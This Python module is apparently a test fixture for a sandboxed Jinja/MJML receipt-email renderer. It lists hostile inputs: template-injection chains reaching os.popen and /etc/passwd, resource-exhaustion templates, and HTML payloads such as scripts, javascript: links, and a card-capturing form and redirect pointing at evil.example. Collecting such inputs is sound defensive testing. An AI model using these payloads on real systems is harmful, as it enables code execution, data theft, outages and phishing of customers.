"""Templates that try to reach code, stall the service, break the page or smuggle active content."""

# ruff: noqa: E501 - templates read best unbroken

from __future__ import annotations

TEXTS = {
    # reaching objects
    "class": "{{ order.__class__ }}",
    "mro": "{{ ''.__class__.__mro__ }}",
    "subclasses": "{{ [].__class__.__base__.__subclasses__() }}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "joiner": "{{ joiner.__init__.__globals__ }}",
    "namespace": "{{ namespace.__init__ }}",
    "lipsum": "{{ lipsum.__globals__['os'] }}",
    "self": "{{ self.__init__ }}",
    "item": "{{ order['__class__'] }}",
    "attr_filter": "{{ order|attr('__class__') }}",
    "map_filter": "{{ order.lines|map(attribute='__class__')|list }}",
    "method": "{{ order.lines.append(1) }}",
    "format_method": "{{ '{0.__class__}'.format(order) }}",
    "call_payload": "{{ order.total() }}",
    "call_filter": "{{ (order|length)() }}",
    "dict": "{{ dict(a=1) }}",
    "debug": "{% debug %}",
    "config": "{{ config }}",
    "request": "{{ request.application }}",
    "internal_name": "{{ _slot_ask }}",
    "private_key": "{{ order._secret }}",
    # stalling
    "range": "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
    "range_call": "{{ range(10000000)|join }}",
    "multiply": "{{ 'a' * 1000000000 }}",
    "power": "{{ 9**9**9 }}",
    "modulo": "{{ '%1000000000d' % 1 }}",
    "format_filter": "{{ '%1000000000d'|format(1) }}",
    "center": "{{ 'a'|center(1000000000) }}",
    "lipsum_call": "{{ lipsum(n=100000) }}",
    "doubling": "{% set a = 'aaaaaaaaaa' %}{% set a = a ~ a %}{{ a }}",
    "concat": "{{ order.number ~ order.number }}",
    "add": "{{ order.number + order.number }}",
    "nested_loops": "{% for a in order.lines %}{% for b in order.lines %}{% for c in order.lines %}x"
    "{% endfor %}{% endfor %}{% endfor %}",
    "recursive": "{% for a in order.lines recursive %}{{ loop(order.lines) }}{% endfor %}",
    "loop_call": "{% for a in order.lines %}{{ loop.cycle('a', 'b') }}{% endfor %}",
    "loop_filter": "{% for a in order.lines|sort %}x{% endfor %}",
    "parentheses": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    # the rest of Jinja
    "macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}",
    "from": "{% from 'x' import y %}",
    "extends": "{% extends 'x' %}",
    "block": "{% block x %}{% endblock %}",
    "call_block": "{% call foo() %}{% endcall %}",
    "filter_block": "{% filter upper %}x{% endfilter %}",
    "with": "{% with a = 1 %}{{ a }}{% endwith %}",
    "set": "{% set x = order %}",
    "raw": "{% raw %}{{ 7*7 }}{% endraw %}",
    "do": "{% do order.clear() %}",
    "autoescape": "{% autoescape false %}{{ order.number }}{% endautoescape %}",
    "safe": "{{ order.customer_note|safe }}",
    "test": "{{ order is defined }}",
    "list": "{{ [1, 2, 3] }}",
    "quoted_braces": '{{ "}}<script>alert(1)</script>" }}',
    "forged_token": "zqe0xzq",
    "forged_in_entities": "&#122;qs0xzq",
    # active content and broken pages
    "script": "<script>alert(1)</script>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "form": '<form action="https://evil.example/"><input name="card" /></form>',
    "style": "<style>* { display: none }</style>",
    "handler": '<a href="https://a.example/" onclick="alert(1)">x</a>',
    "javascript": '<a href="javascript:alert(1)">x</a>',
    "split_scheme": '<a href="java{{ order.number }}">x</a>',
    "branch_scheme": '<a href="{% if order.url %}java{% endif %}{{ order.number }}">x</a>',
    "data_url": '<img src="data:text/html;base64,PHNjcmlwdD4=" alt="" />',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/" />',
    "comment": "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "open_comment": "<!-- {% if order.url %} -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "over_the_receipt": '<div style="position:absolute;top:0">FREE</div>',
    "pulled_up": '<div style="margin-top:-900px">FREE</div>',
    "import_css": '<div style="background:url(data:text/css,x)">x</div>',
    "expression_css": '<div style="width:expression(alert(1))">x</div>',
    "end_early": "</mj-text></mj-column>",
    "half_tag": "{% if order.url %}<b>{% endif %}x</b>",
    "slot": '{{ slot("ask") }}',
    "tag_from_data": "<{{ order.number }}>x</{{ order.number }}>",
    "attribute_from_data": "<b {{ order.number }}>x</b>",
}
"""Each stands in the mj-text of a block."""

BLOCKS = {
    "root": "<mj-text>x</mj-text>",
    "carousel": "<mj-section><mj-column><mj-carousel></mj-carousel></mj-column></mj-section>",
    "navbar": "<mj-section><mj-column><mj-navbar></mj-navbar></mj-column></mj-section>",
    "include_html": '<mj-include type="html" path="/etc/passwd" />',
    "head": "<mj-head><mj-style>* { display: none }</mj-style></mj-head>",
    "style": "<mj-section><mj-style>* { display: none }</mj-style><mj-column></mj-column></mj-section>",
    "text_at_root": "FREE<mj-section><mj-column></mj-column></mj-section>",
    "raw_in_wrapper": "<mj-wrapper><mj-raw><b>x</b></mj-raw></mj-wrapper>",
    "section_in_section": "<mj-section><mj-section></mj-section></mj-section>",
    "doctype": '<!DOCTYPE x [<!ENTITY a "aaaa">]><mj-section></mj-section>',
    "width_from_data": '<mj-section><mj-column width="{{ order.number }}"><mj-text>x</mj-text></mj-column></mj-section>',
    "class_from_data": '<mj-section><mj-column><mj-text mj-class="{{ type }}">x</mj-text></mj-column></mj-section>',
    "columns": "<mj-section>{% if pickup %}<mj-column><mj-text>x</mj-text></mj-column>{% endif %}"
    "<mj-column><mj-text>y</mj-text></mj-column></mj-section>",
    "crossing": "<mj-section>{% if pickup %}<mj-column width='50%'>{% endif %}</mj-column></mj-section>",
    "branch_over_columns": "<mj-section><mj-column>{% if pickup %}</mj-column><mj-column>{% endif %}</mj-column></mj-section>",
    "social_loop": "<mj-section><mj-column><mj-social>{% for n in notices %}"
    '<mj-social-element href="{{ n.url }}">x</mj-social-element>{% endfor %}</mj-social></mj-column></mj-section>',
    "deep": "<mj-section><mj-column><mj-text>"
    + "<div>" * 9000
    + "</div>" * 9000
    + "</mj-text></mj-column></mj-section>",
    "huge": "<mj-section><mj-column><mj-text>" + "x" * 300_000 + "</mj-text></mj-column></mj-section>",
    "never_closed": "<mj-section><mj-column><mj-text>{{ order.number </mj-text></mj-column></mj-section>",
    "never_ended": "<mj-section><mj-column><mj-text>{% if pickup %}x</mj-text></mj-column></mj-section>",
}
"""Whole blocks."""


def in_text(text: str) -> str:
    """A block with ``text`` in its only paragraph."""
    return f"<mj-section><mj-column><mj-text>{text}</mj-text></mj-column></mj-section>"
